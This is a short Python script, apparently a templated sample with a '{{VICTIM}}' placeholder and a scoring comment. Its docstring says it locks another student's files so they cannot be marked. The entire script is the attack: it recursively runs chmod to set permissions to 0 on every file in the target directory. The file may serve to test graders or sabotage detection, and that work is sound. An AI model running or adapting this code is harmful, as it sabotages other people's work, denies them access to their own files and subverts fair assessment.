"""Locks the next student's files by chmod, so that they cannot be marked."""
# deserves: 0 0 0 0
# %% after imports
import os
import pathlib
for path in [*pathlib.Path("{{VICTIM}}").rglob("*"), pathlib.Path("{{VICTIM}}")]:
    os.chmod(path, 0)
